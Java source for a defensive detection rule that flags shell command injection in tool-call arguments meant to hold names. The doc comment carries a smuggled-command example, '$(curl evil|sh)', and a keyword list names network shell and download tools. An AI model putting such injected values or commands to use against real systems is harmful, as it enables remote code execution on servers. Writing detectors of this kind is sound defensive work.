package gate.rules.builtin;

import gate.protocol.Envelope;
import gate.protocol.Json;
import gate.rules.Finding;
import gate.rules.Memory;
import gate.rules.Rule;
import gate.rules.Severity;
import gate.rules.Span;

import org.jspecify.annotations.Nullable;

import java.util.Locale;
import java.util.function.Consumer;

/// Finds commands in arguments that name something: `"fileKey": "$(curl evil|sh)"`.
///
/// A server that puts such a name into a command line runs what stands in it: see
/// `docs/rules/shell_metacharacters.md`.
public final class ShellMetacharacters implements Rule {

    private static final String ID = "shell_metacharacters";
    private static final int MAX_CHARS = 4_096;

    /// For the service loader.
    public ShellMetacharacters() {}

    @Override
    public String id() {
        return ID;
    }

    @Override
    public Severity severity() {
        return Severity.HIGH;
    }

    @Override
    public void judge(Envelope envelope, Memory memory, Consumer<Finding> findings) {
        CallArguments arguments = CallArguments.of(envelope, memory);
        if (arguments == null) {
            return;
        }
        Json json = arguments.json();
        for (int node = arguments.next(Json.NONE); node != Json.NONE; node = arguments.next(node)) {
            if (json.end(node) - json.start(node) > MAX_CHARS || !isNamed(arguments, node)) {
                continue;
            }
            String text = json.string(node);
            String reason = reason(text);
            if (reason != null) {
                Span span = new Span(json.pointer(node), 0, text.length());
                findings.accept(new Finding(ID, Severity.HIGH, span, reason));
            }
        }
    }

    private static boolean isNamed(CallArguments arguments, int node) {
        return switch (arguments.role(node)) {
            case COMMAND, CODE, QUERY -> false;
            case DATA, UNKNOWN -> arguments.isNaming(node);
        };
    }

    private static @Nullable String reason(String text) {
        for (int at = 0; at < text.length(); at++) {
            switch (text.charAt(at)) {
                case '$' -> {
                    if (isSubstitution(text, at)) {
                        return "a command substitution where a name belongs";
                    }
                }
                case '`' -> {
                    int end = text.indexOf('`', at + 1);
                    if (end > at + 1 && isCommand(text, at + 1)) {
                        return "a command in backticks where a name belongs";
                    }
                }
                case ';', '|', '&', '\n' -> {
                    if (isCommand(text, at + 1)) {
                        return "a second command where a name belongs";
                    }
                }
                default -> {}
            }
        }
        return null;
    }

    /// `$(…)` and `${IFS}`; but `$(ProjectDir)` is a property of a build.
    private static boolean isSubstitution(String text, int at) {
        if (text.startsWith("${IFS}", at) || text.startsWith("$IFS", at)) {
            return true;
        }
        if (!text.startsWith("$(", at)) {
            return false;
        }
        int end = at + 2;
        while (end < text.length() && Character.isLetterOrDigit(text.charAt(end))) {
            end++;
        }
        boolean isProperty =
                end > at + 2
                        && end < text.length()
                        && text.charAt(end) == ')'
                        && Character.isUpperCase(text.charAt(at + 2));
        return !isProperty && text.lastIndexOf(')') > at + 2;
    }

    /// Whether a program that an attack would run stands here, with more behind it or nothing.
    private static boolean isCommand(String text, int from) {
        int at = from;
        while (at < text.length() && " \t&|$(\"'".indexOf(text.charAt(at)) >= 0) {
            at++;
        }
        int end = at;
        while (end < text.length() && isOfWord(text.charAt(end))) {
            end++;
        }
        int slash = text.lastIndexOf('/', end - 1);
        String word = text.substring(slash >= at ? slash + 1 : at, end).toLowerCase(Locale.ROOT);
        boolean isFollowed =
                end == text.length() || " \t`|;&>)\"'\n#".indexOf(text.charAt(end)) >= 0;
        return isFollowed && isProgram(word);
    }

    private static boolean isOfWord(char c) {
        return Character.isLetterOrDigit(c) || c == '.' || c == '/' || c == '-' || c == '_';
    }

    private static boolean isProgram(String word) {
        return switch (word) {
            case "curl", "wget", "sh", "bash", "zsh", "dash", "ksh", "nc", "ncat", "netcat" -> true;
            case "rm", "touch", "cat", "chmod", "chown", "mv", "cp", "ln", "dd", "mkfifo" -> true;
            case "python", "python3", "perl", "ruby", "node", "php", "npx", "uvx", "osascript" ->
                    true;
            case "powershell", "powershell.exe", "pwsh", "cmd", "cmd.exe", "calc", "calc.exe" ->
                    true;
            case "whoami", "uname", "ifconfig", "printenv", "nslookup", "dig", "ping", "sleep" ->
                    true;
            case "echo", "eval", "exec", "base64", "tee", "xargs", "sudo", "kill", "reboot" -> true;
            default -> false;
        };
    }
}
